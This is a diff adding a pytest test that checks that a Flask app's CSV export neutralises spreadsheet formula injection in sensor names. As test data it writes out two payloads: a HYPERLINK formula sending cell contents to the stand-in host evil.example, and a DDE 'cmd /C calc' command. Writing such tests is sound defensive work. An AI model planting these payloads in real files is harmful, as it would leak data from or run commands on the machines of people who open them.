@@ -361,3 +361,17 @@ def test_a_long_export_streams_a_chunk_at_a_time(client: FlaskClient) -> None:
     assert len(sizes) > 80
     assert sum(sizes) > 6_000_000
     assert peak < sum(sizes) / 4, f"peak {peak:,} bytes for {sum(sizes):,} bytes of CSV"
+
+
+def test_a_sensor_name_cannot_become_a_spreadsheet_formula(
+    client: FlaskClient, sensors: dict[str, Sensor]
+) -> None:
+    sensors["clock"].name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    sensors["station"].name = "+cmd|' /C calc'!A0"
+    db.session.flush()
+    rows = _csv(client, f"{PERIOD}&interval=day")
+    names = {row["sensor_name"] for row in rows}
+    assert names == {'\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+cmd|' /C calc'!A0"}
+    # The JSON keeps the name as typed: it is data, not a sheet.
+    body = _json(client, f"{PERIOD}&interval=day")
+    assert sensors["clock"].name in {s["name"] for s in body["sensors"]}
